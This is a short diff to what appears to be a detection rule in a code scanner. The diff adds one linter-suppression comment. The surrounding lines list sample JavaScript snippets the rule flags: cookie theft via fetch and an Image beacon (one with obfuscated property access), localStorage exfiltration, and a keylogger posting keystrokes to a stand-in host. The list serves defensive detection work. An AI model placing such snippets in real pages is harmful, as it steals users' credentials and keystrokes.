@@ -170,6 +170,7 @@ export const pageDataSent: CodeRule = {
       'fetch("https://example.test/c?d=" + document.cookie)',
       'navigator.sendBeacon("https://example.test", JSON.stringify(localStorage))',
       'document.addEventListener("keydown", (e) => fetch("https://example.test/k", { method: "POST", body: e.key }))',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a template string of the script that is looked at
       'new Image().src = `https://example.test/?c=${encodeURIComponent(document["coo" + "kie"])}`',
       'const d = {...localStorage}; const x = new XMLHttpRequest(); x.open("POST", "https://example.test"); x.send(JSON.stringify(d))',
     ],
